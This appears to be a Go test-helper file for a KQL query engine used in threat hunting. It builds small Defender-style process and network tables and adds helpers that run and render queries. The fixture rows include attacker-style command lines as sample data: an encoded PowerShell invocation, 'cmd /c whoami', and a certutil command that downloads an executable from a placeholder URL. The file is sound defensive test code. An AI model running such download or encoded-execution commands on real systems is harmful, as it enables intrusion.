package eval

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/ahunt/ahunt/kql/table"
)

// testNow is the fixed clock of the tests.
var testNow = time.Date(2026, 11, 20, 12, 0, 0, 0, time.UTC)

// fixtureTables are small hand-made tables in the shape of Defender's,
// written as datatables so the fixture also exercises datatable.
var fixtureTables = map[string]string{
	"Proc": `datatable(Timestamp:datetime, DeviceName:string,
		FileName:string, ProcessCommandLine:string, AccountName:string,
		Size:long, Extra:dynamic) [
	datetime(2026-11-20T10:00:00Z), "ws1", "powershell.exe",
		"powershell -enc SQBFAFgA", "alice", 100, dynamic({"a":1,"tags":["x","y"]}),
	datetime(2026-11-20T09:30:00Z), "ws1", "cmd.exe",
		"cmd /c whoami", "alice", 20, dynamic({"a":2}),
	datetime(2026-11-19T08:00:00Z), "ws2", "PowerShell.EXE",
		"PowerShell.exe -nop", "bob", 300, dynamic(null),
	datetime(2026-11-18T23:59:59Z), "ws2", "certutil.exe",
		"certutil -urlcache -f http://x/a.exe a.exe", "bob", long(null),
		dynamic({"tags":[]}),
	datetime(2026-11-10T12:00:00Z), "srv1", "svchost.exe",
		"", "system", 5, dynamic({"a":"3"}),
	]`,
	"Net": `datatable(Timestamp:datetime, DeviceName:string,
		RemoteIP:string, RemotePort:int) [
	datetime(2026-11-20T10:01:00Z), "ws1", "10.0.0.5", 443,
	datetime(2026-11-20T10:02:00Z), "ws1", "8.8.8.8", 53,
	datetime(2026-11-19T08:01:00Z), "ws2", "203.0.113.7", 443,
	datetime(2026-11-19T08:02:00Z), "ws3", "192.168.1.1", 80,
	]`,
}

// fixture builds the test DB.
func fixture(t testing.TB) *DB {
	t.Helper()
	db := &DB{Tables: map[string]*table.Table{}}
	for name, q := range fixtureTables {
		res, err := Run(context.Background(), q, db, Options{Now: testNow})
		if err != nil {
			t.Fatalf("fixture %s: %v", name, Describe(q, err))
		}
		db.Tables[name] = res
	}
	return db
}

// render writes a result as its schema and one line per row, cells
// separated by " | ", nulls as null and empty strings as "".
func render(t *table.Table) string {
	var b strings.Builder
	b.WriteString(t.String())
	for i := range t.Rows() {
		b.WriteByte('\n')
		for j, c := range t.Columns {
			if j > 0 {
				b.WriteString(" | ")
			}
			switch {
			case c.IsNull(i) && c.Type != table.String:
				b.WriteString("null")
			case c.Format(i) == "":
				b.WriteString(`""`)
			default:
				b.WriteString(c.Format(i))
			}
		}
	}
	return b.String()
}

// runQuery runs q over the fixture and renders the result or the error.
func runQuery(t testing.TB, db *DB, q string) string {
	t.Helper()
	res, err := Run(context.Background(), q, db, Options{Now: testNow})
	if err != nil {
		return "error: " + Describe(q, err)
	}
	if err := res.Validate(); err != nil {
		t.Fatalf("invalid result table: %v", err)
	}
	return render(res)
}

// queryCase is one query and its rendered result.
type queryCase struct {
	name, query, want string
}

func runCases(t *testing.T, cases []queryCase) {
	t.Helper()
	db := fixture(t)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got := runQuery(t, db, tc.query)
			want := strings.TrimSpace(dedent(tc.want))
			if got != want {
				t.Errorf("query:\n%s\ngot:\n%s\nwant:\n%s", tc.query, got,
					want)
			}
		})
	}
}

// dedent removes leading tabs from each line.
func dedent(s string) string {
	lines := strings.Split(s, "\n")
	for i, l := range lines {
		lines[i] = strings.TrimLeft(l, "\t")
	}
	return strings.Join(lines, "\n")
}
